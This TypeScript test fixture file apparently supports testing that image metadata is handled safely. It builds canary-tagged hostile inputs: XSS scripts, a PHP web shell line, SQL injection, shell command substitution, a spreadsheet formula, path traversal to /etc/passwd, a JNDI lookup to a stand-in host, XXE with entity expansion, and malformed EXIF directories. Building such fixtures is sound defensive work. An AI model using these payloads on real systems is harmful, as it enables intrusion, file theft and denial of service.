import { be32 } from "./bytes.fixture.ts";
import { CANARY } from "./hostile-file.fixture.ts";
import { ascii, exif, opaque, rationals } from "./jpeg-parts.fixture.ts";

/** Texts that do harm where somebody shows them without care. */
export const SCRIPTS: Readonly<Record<string, string>> = {
  "a script": `<script>/*${CANARY}*/fetch("//a.example")</script>`,
  "an image that fails": `"><img src=x onerror="/*${CANARY}*/alert(1)">`,
  PHP: `<?php /*${CANARY}*/ system($_GET["c"]); ?>`,
  SQL: `'); drop table travelers; -- ${CANARY}`,
  "a shell's command": `$(touch /tmp/${CANARY})`,
  "a formula": `=cmd|' /C calc ${CANARY}'!A0`,
  "a path": `../../../../etc/passwd#${CANARY}`,
  "a look-up": `\${jndi:ldap://a.example/${CANARY}}`,
};

/** EXIF blocks with a canary each, by where it stands. `thumbnail` is a JPEG that has one too. */
export function exifBlocks(thumbnail: Buffer): Readonly<Record<string, Buffer>> {
  const scripts = Object.entries(SCRIPTS).map(([name, text]) => [
    `${name} in the description`,
    exif({ main: [ascii(0x010e, text)] }),
  ]);
  return {
    ...Object.fromEntries(scripts),
    "the owner's name": exif({ main: [ascii(0x013b, CANARY), ascii(0x8298, CANARY)] }),
    "the camera's number": exif({ taking: [ascii(0xa431, CANARY)] }),
    "a maker's note": exif({ taking: [opaque(0x927c, CANARY.repeat(100))] }),
    "a user's comment": exif({ taking: [opaque(0x9286, `ASCII\0\0\0${CANARY}`)] }),
    "a place": exif({
      place: [
        ...[ascii(1, "N"), rationals(2, 48, 12, 30), ascii(3, "E"), rationals(4, 16, 22, 23)],
        opaque(0x1b, `ASCII\0\0\0${CANARY}`),
      ],
    }),
    "a small copy": exif({ thumbnail }),
    "a directory that names itself the next": Buffer.concat([
      ...[Buffer.from("MM\0*"), be32(8), Buffer.from([0, 0]), be32(8), Buffer.from(CANARY)],
    ]),
    "a value beyond the end": Buffer.concat([
      ...[Buffer.from("MM\0*"), be32(8), Buffer.from([0, 1, 1, 14, 0, 2]), be32(0xffff_fff0), be32(0xffff_fff0)],
      Buffer.concat([be32(0), Buffer.from(CANARY)]),
    ]),
  };
}

export const XMP = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF
 xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"
 dc:creator="${CANARY}"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;

/** XML that asks its reader for a file, and to write itself a thousand million times. */
export const XMP_ENTITIES = `<!DOCTYPE x [<!ENTITY a "${CANARY}"><!ENTITY f SYSTEM "file:///etc/passwd">${[
  ..."bcdefghi",
]
  .map((name, at) => `<!ENTITY ${name} "${`&${"abcdefgh"[at]};`.repeat(10)}">`)
  .join("")}]><x:xmpmeta xmlns:x="adobe:ns:meta/">&i;&f;</x:xmpmeta>`;

/** A colour profile of the right form, with nothing but a description. */
export const PROFILE = (() => {
  const text = Buffer.from(`desc\0\0\0\0\0\0\0\x20${CANARY.padEnd(31)}\0`);
  const table = Buffer.concat([be32(1), Buffer.from("desc"), be32(144), be32(text.length)]);
  const head = Buffer.alloc(128);
  head.writeUInt32BE(144 + text.length, 0);
  head.write("\x02\x40", 8, "latin1");
  head.write("mntrRGB XYZ ", 12);
  head.write("acsp", 36);
  return Buffer.concat([head, table, text]);
})();
